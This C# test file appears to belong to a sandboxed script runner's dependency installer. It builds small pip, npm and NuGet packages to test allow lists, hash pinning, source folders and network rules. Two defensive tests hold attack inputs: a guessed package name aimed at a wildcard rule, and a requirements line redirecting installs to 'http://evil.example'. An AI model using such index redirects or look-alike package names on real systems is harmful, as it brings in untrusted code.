using System.IO.Compression;
using System.Security.Cryptography;
using System.Text;
using TarsEngine.Configuration;
using TarsEngine.Permissions;
using TarsEngine.Terminal.Dependencies;
using TarsEngine.Terminal.Scripts;
using TarsEngine.Tests.Sandbox;
using TarsEngine.Tests.Terminal.Scripts;

namespace TarsEngine.Tests.Terminal.Dependencies;

/// <summary>Real pip, npm and dotnet in the real sandbox, with packages that the tests make.</summary>
public sealed class DependencyInstallerTests(SandboxFixture sandbox) : IClassFixture<SandboxFixture>, IDisposable
{
    private readonly ScriptGround ground = new(sandbox);
    private readonly TempFolder packages = new();

    public void Dispose()
    {
        ground.Dispose();
        packages.Dispose();
    }

    [Fact]
    public async Task By_default_nothing_is_installed_and_the_package_and_the_leave_it_needs_are_named()
    {
        var failed = Assert.IsType<ScriptFailed>(await ground.With("a.py", "import no_such_cv2\n").Run("a.py"));

        var denied = Assert.IsType<DependencyNotAllowed>(failed.Dependency);
        Assert.Contains("a guess", denied.Text, StringComparison.Ordinal);
        Assert.Contains("dependencies: {allow: [\"no_such_cv2\"]}", denied.Text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_allowed_wheel_is_installed_for_the_run_which_is_repeated_once()
    {
        MakeWheel("tinyyaml", "1.0", "import sys\nsys.stdout.write('')\nVALUE = 42\n");

        var outcome = await ground.With("a.py", "import tiny_yaml\nprint(tiny_yaml.VALUE)\n").Run("a.py", settings: Settings("python", "tiny_yaml", "tinyyaml"));

        Assert.Equal("tinyyaml", Assert.IsType<ScriptSucceeded>(outcome).Installed?.Missing.Package);
        Assert.Equal("42", ground.Text);
        Assert.False(Directory.Exists(Path.Combine(sandbox.Codebase, "packages")));
    }

    [Fact]
    public async Task A_package_that_is_only_there_as_source_is_not_installed_because_that_would_run_it()
    {
        File.WriteAllText(packages.File("tinyyaml-1.0.tar.gz"), "no archive at all");

        var failed = Assert.IsType<ScriptFailed>(await ground.With("a.py", "import tiny_yaml\n").Run("a.py", settings: Settings("python", "tiny_yaml", "tinyyaml")));

        Assert.Contains("Could not find a version", Assert.IsType<DependencyNotInstalled>(failed.Dependency).Text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Attack_a_guessed_name_is_not_covered_by_a_pattern()
    {
        MakeWheel("tiny_yaml", "1.0", "VALUE = 'stolen'\n");
        var settings = Settings("python", null, null) with { Allow = ["*"] };

        var failed = Assert.IsType<ScriptFailed>(await ground.With("a.py", "import tiny_yaml\n").Run("a.py", settings: settings));

        Assert.IsType<DependencyNotAllowed>(failed.Dependency);
        Assert.IsType<ScriptSucceeded>(await ground.Run("a.py", settings: settings with { Allow = ["tiny_yaml"] }));
    }

    [Fact]
    public async Task Requirements_are_honoured_with_their_versions_and_hashes()
    {
        var good = MakeWheel("tinyyaml", "1.0", "VALUE = 'one'\n");
        MakeWheel("tinyyaml", "2.0", "VALUE = 'two'\n");
        var settings = Settings("python", "tiny_yaml", "tinyyaml");

        ground.With("main.py", "import tiny_yaml\nprint(tiny_yaml.VALUE)\n").With("requirements.txt", $"tinyyaml==1.0 --hash=sha256:{good}\n");
        Assert.IsType<ScriptSucceeded>(await ground.Run(settings: settings));
        Assert.Equal("one", ground.Text);

        ground.With("requirements.txt", $"tinyyaml==1.0 --hash=sha256:{new string('0', 64)}\n");
        Assert.IsType<DependencyNotInstalled>(Assert.IsType<ScriptFailed>(await ground.Run(settings: settings)).Dependency);
    }

    [Theory]
    [InlineData("tinyyaml\nother\n", typeof(DependencyNotAllowed), "'other'")]
    [InlineData("--index-url http://evil.example\ntinyyaml\n", typeof(DependencyNotInstalled), "line 1 of requirements.txt")]
    public async Task Attack_a_scripts_own_list_brings_other_packages_or_another_place(string requirements, Type outcome, string message)
    {
        MakeWheel("tinyyaml", "1.0", "VALUE = 1\n");
        ground.With("main.py", "import tiny_yaml\n").With("requirements.txt", requirements);

        var failed = Assert.IsType<ScriptFailed>(await ground.Run(settings: Settings("python", "tiny_yaml", "tinyyaml")));

        Assert.Equal(outcome, failed.Dependency?.GetType());
        Assert.Contains(message, failed.Dependency!.Text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_second_package_that_is_missing_is_named_and_not_installed()
    {
        MakeWheel("tinyyaml", "1.0", "VALUE = 1\n");
        var failed = Assert.IsType<ScriptFailed>(await ground.With("a.py", "import tiny_yaml\nimport PIL\n").Run("a.py", settings: Settings("python", "tiny_yaml", "tinyyaml")));

        Assert.Equal("tinyyaml", failed.Installed?.Missing.Package);
        Assert.Equal("Pillow", Assert.IsType<DependencyNamed>(failed.Dependency).Missing.Package);
    }

    [Fact]
    public async Task A_module_of_the_scripts_own_is_no_package()
    {
        ground.With("main.py", "import helper.gone\n").With("helper.py", "x = 1\n");

        Assert.Null(Assert.IsType<ScriptFailed>(await ground.Run()).Dependency);
    }

    [Theory]
    [InlineData("a.js", "console.log(require('tiny-pad')('x'));\n")]
    [InlineData("a.mjs", "import pad from 'tiny-pad';\nconsole.log(pad('x'));\n")]
    public async Task A_node_package_is_installed_and_none_of_its_scripts_run(string name, string text)
    {
        MakeNodePackage();

        var outcome = await ground.With(name, text).Run(name, settings: Settings("node", null, "tiny-pad"));

        Assert.IsType<ScriptSucceeded>(outcome);
        Assert.Equal("  x", ground.Text);
    }

    [Fact]
    public async Task A_csharp_package_is_installed_and_the_lines_of_the_script_stay_where_they_are()
    {
        MakeNugetFolder();
        var settings = Settings("dotnet", null, "DiffPlex");

        var outcome = await ground.With("a.cs", "using DiffPlex;\nConsole.WriteLine(new Differ().GetType().Name);\n").Run("a.cs", settings: settings);

        Assert.IsType<ScriptSucceeded>(outcome);
        Assert.EndsWith("\nDiffer", ground.Text, StringComparison.Ordinal);
        var failed = Assert.IsType<ScriptFailed>(await ground.With("b.cs", "using DiffPlex;\n_ = new Differ();\nthrow new Exception(\"x\");\n").Run("b.cs", settings: settings));
        Assert.Equal(("runtime", 3), (failed.Failure.Kind, failed.Failure.Place?.Line));
    }

    [Fact]
    public async Task A_source_folder_that_is_not_there_is_named()
    {
        var settings = Settings("python", "tiny_yaml", "tinyyaml") with { Sources = new Dictionary<string, string> { ["python"] = "/no/such/folder" } };

        var failed = Assert.IsType<ScriptFailed>(await ground.With("a.py", "import tiny_yaml\n").Run("a.py", settings: settings));

        Assert.Contains("'/no/such/folder'", Assert.IsType<DependencyNotInstalled>(failed.Dependency).Text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_registry_is_reached_through_the_proxy_and_nothing_else_is()
    {
        MakeWheel("tinyyaml", "1.0", "VALUE = 42\n");
        await using var registry = WheelRegistry.Start(packages.Path);
        var settings = Settings("python", "tiny_yaml", "tinyyaml") with { Sources = new Dictionary<string, string> { ["python"] = registry.Address } };

        var outcome = await ground.With("a.py", "import tiny_yaml\nprint(tiny_yaml.VALUE)\n").Run("a.py", settings: settings);

        Assert.IsType<ScriptSucceeded>(outcome);
        Assert.Equal("42", ground.Text);
        Assert.Equal(["/simple/tinyyaml/", "/tinyyaml-1.0-py3-none-any.whl"], registry.Asked.Distinct());
    }

    [Fact]
    public async Task A_users_rule_against_the_registry_holds()
    {
        MakeWheel("tinyyaml", "1.0", "VALUE = 42\n");
        await using var registry = WheelRegistry.Start(packages.Path);
        ground.Network = new([new("127.0.0.1", HostRule.AnyPort, Decision.Deny, new(RuleAuthor.User))]);
        var settings = Settings("python", "tiny_yaml", "tinyyaml") with { Sources = new Dictionary<string, string> { ["python"] = registry.Address } };

        var failed = Assert.IsType<ScriptFailed>(await ground.With("a.py", "import tiny_yaml\n").Run("a.py", settings: settings));

        Assert.Contains("denies the host '127.0.0.1:", Assert.IsType<DependencyNotInstalled>(failed.Dependency).Text, StringComparison.Ordinal);
        Assert.Empty(registry.Asked);
    }

    private DependencySettings Settings(string ecosystem, string? module, string? package) => new()
    {
        Allow = package is null ? [] : [package],
        Names = new Dictionary<string, IReadOnlyDictionary<string, string>> { [ecosystem] = module is null ? new Dictionary<string, string>() : new Dictionary<string, string> { [module] = package! } },
        Sources = new Dictionary<string, string> { [ecosystem] = packages.Path },
    };

    /// <summary>The smallest wheel: one module 'tiny_yaml' and its metadata.</summary>
    /// <returns>Its SHA-256.</returns>
    private string MakeWheel(string name, string version, string module)
    {
        var path = packages.File($"{name}-{version}-py3-none-any.whl");
        using (var wheel = ZipFile.Open(path, ZipArchiveMode.Create))
        {
            Add(wheel, "tiny_yaml.py", module);
            Add(wheel, $"{name}-{version}.dist-info/METADATA", $"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n");
            Add(wheel, $"{name}-{version}.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n");
            Add(wheel, $"{name}-{version}.dist-info/RECORD", "");
        }
        return Convert.ToHexStringLower(SHA256.HashData(File.ReadAllBytes(path)));
    }

    private void MakeNodePackage()
    {
        using var file = File.Create(packages.File("tiny-pad-1.2.0.tgz"));
        using var zip = new GZipStream(file, CompressionLevel.Fastest);
        using var tar = new System.Formats.Tar.TarWriter(zip);
        Add(tar, "package/package.json", "{\"name\": \"tiny-pad\", \"version\": \"1.2.0\", \"main\": \"index.js\", \"scripts\": {\"postinstall\": \"exit 1\"}}");
        Add(tar, "package/index.js", "module.exports = text => '  ' + text;\n");
    }

    /// <summary>A folder with one package, from the user's own cache.</summary>
    private void MakeNugetFolder()
    {
        var cached = Path.Combine(sandbox.Paths.PackageFolder, "diffplex", "1.4.4", "diffplex.1.4.4.nupkg");
        File.Copy(cached, packages.File("diffplex.1.4.4.nupkg"), overwrite: true);
    }

    private static void Add(ZipArchive archive, string name, string text)
    {
        using var entry = archive.CreateEntry(name).Open();
        entry.Write(Encoding.UTF8.GetBytes(text));
    }

    private static void Add(System.Formats.Tar.TarWriter archive, string name, string text) =>
        archive.WriteEntry(new System.Formats.Tar.PaxTarEntry(System.Formats.Tar.TarEntryType.RegularFile, name) { DataStream = new MemoryStream(Encoding.UTF8.GetBytes(text)) });
}
